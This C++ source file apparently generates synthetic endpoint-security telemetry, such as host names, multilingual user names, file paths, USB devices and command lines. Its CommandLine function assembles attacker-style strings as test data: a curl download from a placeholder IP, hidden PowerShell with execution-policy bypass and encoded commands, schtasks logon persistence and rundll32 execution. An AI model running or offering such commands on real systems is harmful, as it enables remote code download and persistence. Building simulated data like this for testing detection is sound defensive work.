#include "simulator/realistic_text.h"

#include <cstddef>
#include <iterator>
#include <string_view>

namespace s1c::sim::realistic {
namespace {

// Word lists. A few hundred entries in all: enough that two events rarely
// share more than their template, small enough to read. Non-ASCII entries
// (accents, umlauts, Cyrillic, Japanese, Chinese) are there on purpose.
constexpr std::string_view kWords[] = {
    "access",       "account",      "activity",    "admin",      "agent",       "alert",
    "allowed",      "anomalous",    "application", "archive",    "attempt",     "audit",
    "backup",       "baseline",     "beacon",      "binary",     "blocked",     "boot",
    "browser",      "cache",        "certificate", "change",     "child",       "client",
    "cloud",        "command",      "component",   "config",     "connection",  "console",
    "container",    "copy",         "created",     "credential", "daemon",      "data",
    "database",     "debug",        "default",     "deleted",    "deny",        "detected",
    "device",       "directory",    "disabled",    "discovery",  "domain",      "download",
    "driver",       "dump",         "elevated",    "email",      "enabled",     "encoded",
    "endpoint",     "engine",       "error",       "event",      "exclusion",   "execution",
    "exfiltration", "exploit",      "export",      "external",   "failed",      "file",
    "firewall",     "folder",       "forwarded",   "group",      "handle",      "hash",
    "hidden",       "host",         "identity",    "image",      "import",      "injection",
    "install",      "interactive",  "internal",    "kernel",     "key",         "lateral",
    "launch",       "library",      "listener",    "local",      "lock",        "log",
    "login",        "logon",        "macro",       "mail",       "malicious",   "manager",
    "memory",       "module",       "monitor",     "mount",      "network",     "new",
    "object",       "office",       "outbound",    "package",    "parent",      "password",
    "patch",        "payload",      "persistence", "pipe",       "policy",      "port",
    "powershell",   "privilege",    "process",     "profile",    "protected",   "proxy",
    "query",        "quarantine",   "registry",    "remote",     "rename",      "report",
    "request",      "restore",      "rule",        "runtime",    "scan",        "scheduled",
    "script",       "secret",       "sensor",      "server",     "service",     "session",
    "share",        "shell",        "signed",      "socket",     "source",      "spawned",
    "startup",      "storage",      "suspicious",  "system",     "task",        "temporary",
    "thread",       "token",        "tool",        "traffic",    "trusted",     "unknown",
    "unsigned",     "update",       "upload",      "usb",        "user",        "utility",
    "value",        "vault",        "volume",      "web",        "window",      "worker",
    "workstation",  "write",        "zone",        "accès",      "échec",       "système",
    "sécurité",     "fichier",      "tâche",       "réseau",     "Überwachung", "Prüfung",
    "Größe",        "Schlüssel",    "Änderung",    "доступ",     "ошибка",      "служба",
    "процесс",      "пользователь", "журнал",      "アクセス",   "ファイル",    "プロセス",
    "警告",         "設定",         "サービス",    "访问",       "文件",        "进程",
    "用户",         "服务器",       "日志",
};

// First and last names, lower case as login names are; some non-ASCII.
constexpr std::string_view kFirstNames[] = {
    "adam",   "agnès",  "akira",    "alice",  "amélie", "ana",    "anders", "andrei",
    "björn",  "carlos", "chloé",    "daniel", "david",  "dmitri", "élodie", "emma",
    "fatima", "felix",  "françois", "giulia", "hana",   "hélène", "igor",   "ines",
    "jakub",  "jan",    "jörg",     "josé",   "julia",  "karim",  "kenji",  "lars",
    "léa",    "li",     "lukas",    "maría",  "marta",  "mateo",  "mehmet", "mia",
    "minh",   "nadia",  "noah",     "olga",   "omar",   "paul",   "pierre", "raúl",
    "sara",   "sören",  "sophie",   "takumi", "thomas", "wei",    "yuki",   "zoé",
    "анна",   "иван",   "сергей",   "мария",  "ゆうき", "さくら", "伟",     "芳",
};
constexpr std::string_view kLastNames[] = {
    "andersson", "bauer",     "bernard", "brown",    "castro", "chen",   "dubois", "dupré",
    "fernández", "fischer",   "garcía",  "gómez",    "hansen", "ivanov", "jansen", "kim",
    "kowalski",  "kuznetsov", "lefèvre", "lehmann",  "lopez",  "martin", "meyer",  "moreau",
    "müller",    "nakamura",  "nguyen",  "novák",    "nowak",  "olsen",  "pérez",  "petrov",
    "rossi",     "sato",      "schmidt", "schröder", "silva",  "smith",  "suzuki", "tanaka",
    "wagner",    "wang",      "weber",   "yamamoto", "yılmaz", "zhang",  "петров", "смирнов",
    "соколова",  "佐藤",      "鈴木",    "高橋",     "王",     "李",     "张",
};
constexpr std::string_view kServiceAccounts[] = {"svc-backup", "svc-sql",       "svc-deploy",
                                                 "svc-scan",   "administrator", "sccm-push",
                                                 "jenkins",    "ansible"};
constexpr std::string_view kDomains[] = {"CORP",       "EUROPE", "AD",      "GLOBEX",
                                         "MÜLLER-LOG", "HQ",     "TEST-LAB"};
constexpr std::string_view kUpnSuffixes[] = {"corp.example.com", "globex.example",
                                             "müller-logistik.example.de", "example.co.jp"};

// Host names: site codes, roles, and a few departments in other scripts.
constexpr std::string_view kSiteCodes[] = {"par", "lyo", "fra", "muc", "ham", "tyo", "osa",
                                           "nyc", "sfo", "lon", "ams", "waw", "mad", "sin"};
constexpr std::string_view kRoles[] = {"web",   "db",     "app",  "dc",   "fs",    "print",
                                       "vdi",   "sql",    "exch", "jump", "build", "k8s-node",
                                       "proxy", "backup", "rdsh", "mq"};
constexpr std::string_view kDepartments[] = {
    "ÉQUIPE", "RÉCEPTION", "COMPTA", "BUCHHALTUNG", "LAGER-BÜRO", "БУХГАЛТЕРИЯ", "СКЛАД",
    "経理",   "営業部",    "研发",   "财务",        "SALES",      "HR",          "LEGAL"};
constexpr std::string_view kCities[] = {"Zürich",
                                        "Kraków",
                                        "São Paulo",
                                        "Montréal",
                                        "Göteborg",
                                        "Málaga",
                                        "Besançon",
                                        "Lille",
                                        "Nantes",
                                        "Bordeaux",
                                        "Köln",
                                        "Düsseldorf",
                                        "Wien",
                                        "Praha",
                                        "Warszawa",
                                        "Madrid",
                                        "Milano",
                                        "Dublin",
                                        "Austin",
                                        "Toronto",
                                        "Singapore",
                                        "Москва",
                                        "Санкт-Петербург",
                                        "Новосибирск",
                                        "名古屋",
                                        "福岡",
                                        "札幌",
                                        "上海",
                                        "深圳",
                                        "北京"};
constexpr std::string_view kPlaces[] = {"HQ",    "Entrepôt", "Usine", "Agence", "Werk",  "Lager",
                                        "Büro",  "DC1",      "DC2",   "Campus", "Store", "Офис",
                                        "Склад", "工場",     "支店",  "本社",   "仓库"};
constexpr std::string_view kGroupSubjects[] = {
    "Finance",     "HR",         "Sales",        "Marketing", "R&D",         "IT",
    "SOC",         "Legal",      "Support",      "Logistics", "Kiosk",       "Factory",
    "Executives",  "Interns",    "Comptabilité", "Direction", "Entwicklung", "Vertrieb",
    "Бухгалтерия", "Разработка", "営業",         "開発",      "财务",        "研发"};
constexpr std::string_view kGroupKinds[] = {"laptops", "workstations", "servers",    "PCs",
                                            "VMs",     "VDI",          "DB servers", "postes",
                                            "Rechner", "серверы",      "端末"};
constexpr std::string_view kMacModels[] = {"MacBook-Pro", "MacBook-Air", "iMac", "Mac-mini"};

// Paths and files.
constexpr std::string_view kUserFolders[] = {
    "Downloads",        "Desktop",           "Documents",       "AppData\\Local\\Temp",
    "AppData\\Roaming", "OneDrive - Globex", "Téléchargements", "Bureau",
    "Dokumente",        "Загрузки",          "デスクトップ",    "下载"};
constexpr std::string_view kFolders[] = {
    "Q3 reports",    "New folder (2)", "archive", "old",     "2026",    "clients", "Projets",
    "Rechnungen",    "scripts",        "tools",   "install", "drivers", "backup",  "Übergabe",
    "отчёты",        "資料",           "项目",    "tmp",     "x64",     "bin",     "release",
    "Meeting notes", "photos",         "export"};
constexpr std::string_view kProgramFolders[] = {
    "C:\\Program Files\\Microsoft Office\\root\\Office16",
    "C:\\Program Files (x86)\\Google\\Chrome\\Application",
    "C:\\Program Files\\7-Zip",
    "C:\\Program Files\\Notepad++",
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
    "C:\\Windows\\Temp",
    "C:\\Windows\\System32\\Tasks",
    "C:\\Windows\\SysWOW64",
    "D:\\Partage\\Comptabilité",
    "\\\\fs01.corp.example.com\\share$\\public"};
constexpr std::string_view kUnixFolders[] = {"/tmp",
                                             "/var/tmp",
                                             "/dev/shm",
                                             "/usr/local/bin",
                                             "/opt/app/releases",
                                             "/etc/cron.d",
                                             "/var/www/html/uploads",
                                             "/home/{user}/.cache",
                                             "/home/{user}/Downloads",
                                             "/Users/{user}/Library/LaunchAgents",
                                             "/Users/{user}/Desktop"};
constexpr std::string_view kExtensions[] = {
    ".exe", ".dll", ".ps1", ".js",  ".vbs",  ".hta",   ".bat",     ".cmd",    ".lnk",
    ".iso", ".zip", ".7z",  ".rar", ".docm", ".xlsm",  ".pdf.exe", ".doc.js", ".scr",
    ".msi", ".jar", ".py",  ".sh",  ".elf",  ".dylib", ".so"};

// Command lines.
constexpr std::string_view kPowerShell =
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"";
constexpr std::string_view kPowerShellSwitches[] = {
    "-NoProfile",          "-NonInteractive",         "-NoP",         "-W Hidden",
    "-WindowStyle Hidden", "-ExecutionPolicy Bypass", "-Exec Bypass", "-Sta"};
constexpr std::string_view kBase64 =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

// USB devices.
constexpr std::string_view kUsbVendors[] = {"SanDisk",  "Kingston",  "Samsung", "Lexar",
                                            "Verbatim", "Transcend", "PNY",     "Intenso",
                                            "Toshiba",  "WD"};
constexpr std::string_view kUsbProducts[] = {
    "Ultra",       "Ultra Fit", "Cruzer Blade",  "DataTraveler", "Extreme Pro",
    "BAR Plus",    "JumpDrive", "Store 'n' Go",  "JetFlash",     "Elements",
    "My Passport", "Clé USB",   "Speicherstick", "Флешка"};
constexpr int kUsbSizesGb[] = {8, 16, 32, 64, 128, 256, 512, 1024};

template <typename T, size_t N>
std::string_view PickView(Rng& rng, const T (&items)[N]) {
  return items[rng.Below(N)];
}

std::string Digits(Rng& rng, int n) {
  std::string out;
  for (int i = 0; i < n; ++i) out += static_cast<char>('0' + rng.Below(10));
  return out;
}

std::string Base64Blob(Rng& rng, int n) {
  std::string out;
  out.reserve(static_cast<size_t>(n) + 2);
  for (int i = 0; i < n; ++i) out += kBase64[rng.Below(kBase64.size())];
  if (n % 4 != 0) out.append(static_cast<size_t>(4 - n % 4), '=');
  return out;
}

// Replaces every "{user}" in `pattern` with `user`.
std::string WithUser(std::string_view pattern, const std::string& user) {
  std::string out;
  size_t from = 0;
  for (size_t at = pattern.find("{user}"); at != std::string_view::npos;
       at = pattern.find("{user}", from)) {
    out.append(pattern.substr(from, at - from));
    out += user;
    from = at + 6;
  }
  out.append(pattern.substr(from));
  return out;
}

// The length of the UTF-8 sequence that starts with `lead`: the first letter
// of a name can be several bytes, and must not be cut.
size_t Utf8Length(char lead) {
  const auto c = static_cast<unsigned char>(lead);
  return c < 0x80 ? 1 : c < 0xe0 ? 2 : c < 0xf0 ? 3 : 4;
}

bool IsWindows(const Agent& agent) { return agent.os_type == "windows"; }

}  // namespace

std::string HostName(Rng& rng, const Agent& agent) {
  // Servers are named for their site and role; Macs for their model and
  // owner; other machines keep the installer's default name or are named
  // for their department.
  std::string out;
  if (agent.machine_type == "server") {
    out = PickView(rng, kSiteCodes);
    out += '-';
    out.append(PickView(rng, kRoles));
    out += '-';
    out += Digits(rng, static_cast<int>(rng.Between(2, 3)));
    return out;
  }
  if (agent.os_type == "macos") {
    out = PickView(rng, kMacModels);
    out += rng.Chance(0.5) ? "-de-" : "-von-";
    out.append(PickView(rng, kFirstNames));
    return out;
  }
  switch (rng.Below(3)) {
    case 0:
      out = "DESKTOP-";
      out += rng.UpperAlnum(7);
      break;
    case 1:
      out = "LAPTOP-";
      out += rng.UpperAlnum(8);
      break;
    default:
      out = "PC-";
      out.append(PickView(rng, kDepartments));
      out += '-';
      out += Digits(rng, static_cast<int>(rng.Between(2, 4)));
      break;
  }
  return out;
}

std::string SiteName(Rng& rng) {
  std::string out(PickView(rng, kCities));
  out += '-';
  out.append(PickView(rng, kPlaces));
  return out;
}

std::string GroupName(Rng& rng) {
  std::string out(PickView(rng, kGroupSubjects));
  out += ' ';
  out.append(PickView(rng, kGroupKinds));
  if (rng.Chance(0.3)) {
    out += ' ';
    out += std::to_string(rng.Between(1, 12));
  }
  return out;
}

std::string UserName(Rng& rng) {
  const std::string_view first = PickView(rng, kFirstNames);
  const std::string_view last = PickView(rng, kLastNames);
  std::string out;
  switch (rng.Below(6)) {
    case 0:
    case 1:
      out.append(first);
      out += '.';
      out.append(last);
      break;
    case 2:
      out.append(first.substr(0, Utf8Length(first[0])));
      out.append(last);
      break;
    case 3:
      out.append(first);
      out += '_';
      out.append(last);
      out += Digits(rng, static_cast<int>(rng.Between(0, 2)));
      break;
    case 4:
      out.append(last);
      out.append(first);
      break;
    default:
      out.append(PickView(rng, kServiceAccounts));
      out += Digits(rng, static_cast<int>(rng.Between(0, 2)));
      break;
  }
  return out;
}

std::string QualifiedUserName(Rng& rng) {
  const uint64_t form = rng.Below(4);
  std::string user = UserName(rng);
  if (form == 0) {
    std::string out(PickView(rng, kDomains));
    out += '\\';
    return out + user;
  }
  if (form == 1) {
    user += '@';
    user.append(PickView(rng, kUpnSuffixes));
  }
  return user;
}

std::string FileName(Rng& rng) {
  const int words = static_cast<int>(rng.Between(1, 4));
  const std::string_view separators[] = {"_", " ", "-", ""};
  const std::string_view separator = PickView(rng, separators);
  std::string out;
  for (int i = 0; i < words; ++i) {
    if (i > 0) out.append(separator);
    out.append(PickView(rng, kWords));
  }
  if (rng.Chance(0.4)) {
    out.append(separator.empty() ? "_" : separator);
    out += Digits(rng, static_cast<int>(rng.Between(1, 6)));
  }
  out.append(PickView(rng, kExtensions));
  return out;
}

std::string FilePath(Rng& rng, const Agent& agent, const std::string& file) {
  std::string out;
  if (IsWindows(agent)) {
    if (rng.Chance(0.6)) {
      out = rng.Chance(0.3) ? "\\Device\\HarddiskVolume3\\Users\\" : "C:\\Users\\";
      out += agent.last_user;
      out += '\\';
      out.append(PickView(rng, kUserFolders));
    } else {
      out.append(PickView(rng, kProgramFolders));
    }
    const int folders = static_cast<int>(rng.Between(0, 5));
    for (int i = 0; i < folders; ++i) {
      out += '\\';
      out.append(PickView(rng, kFolders));
    }
    out += '\\';
  } else {
    out = WithUser(PickView(rng, kUnixFolders), agent.last_user);
    const int folders = static_cast<int>(rng.Between(0, 3));
    for (int i = 0; i < folders; ++i) {
      out += '/';
      out.append(PickView(rng, kFolders));
    }
    out += '/';
  }
  return out + file;
}

std::string CommandLine(Rng& rng, const Agent& agent, const std::string& path) {
  std::string out;
  if (!IsWindows(agent)) {
    switch (rng.Below(3)) {
      case 0:
        out = "/bin/sh -c \"chmod +x '" + path + "' && '" + path + "' --daemon\"";
        break;
      case 1:
        out = "/usr/bin/curl -fsSL http://203.0.113.";
        out += std::to_string(rng.Between(1, 254));
        out += "/" + Base64Blob(rng, static_cast<int>(rng.Between(6, 24))) + " -o " + path;
        break;
      default:
        out = "python3 " + path + " --token " +
              Base64Blob(rng, static_cast<int>(rng.Between(16, 64)));
        break;
    }
    return out;
  }
  switch (rng.Below(4)) {
    case 0: {
      out = kPowerShell;
      const int switches = static_cast<int>(rng.Between(1, 4));
      for (int i = 0; i < switches; ++i) {
        out += ' ';
        out.append(PickView(rng, kPowerShellSwitches));
      }
      out += " -EncodedCommand ";
      out += Base64Blob(rng, static_cast<int>(rng.Between(24, 360)));
      break;
    }
    case 1:
      out = "C:\\Windows\\system32\\cmd.exe /c \"copy /y \"" + path + "\" \"%TEMP%\\";
      out += rng.UpperAlnum(6);
      out += ".tmp\" && start \"\" \"%TEMP%\\\"\"";
      break;
    case 2:
      // Tabs between arguments: scripts pasted from editors keep them.
      out = "schtasks.exe /create\t/tn \"";
      out += Phrase(rng, 1, 3);
      out += "\"\t/tr \"" + path + "\"\t/sc onlogon /rl highest /f";
      break;
    default:
      out = "rundll32.exe \"" + path + "\",";
      out += rng.Chance(0.5) ? "DllRegisterServer" : "#1";
      break;
  }
  return out;
}

std::string Phrase(Rng& rng, int min_words, int max_words) {
  const int words = static_cast<int>(rng.Between(min_words, max_words));
  std::string out;
  for (int i = 0; i < words; ++i) {
    if (i > 0) out += rng.Chance(0.01) ? '\n' : ' ';
    const std::string_view word = PickView(rng, kWords);
    if (rng.Chance(0.05)) {
      out += '"';
      out.append(word);
      out += '"';
    } else {
      out.append(word);
    }
  }
  return out;
}

UsbDevice Device(Rng& rng) {
  UsbDevice d;
  d.name = PickView(rng, kUsbVendors);
  d.name += ' ';
  d.name.append(PickView(rng, kUsbProducts));
  d.name += ' ';
  d.name += std::to_string(kUsbSizesGb[rng.Below(std::size(kUsbSizesGb))]);
  d.name += "GB";
  d.vendor_id = "0x" + rng.Hex(4);
  d.product_id = "0x" + rng.Hex(4);
  return d;
}

}  // namespace s1c::sim::realistic
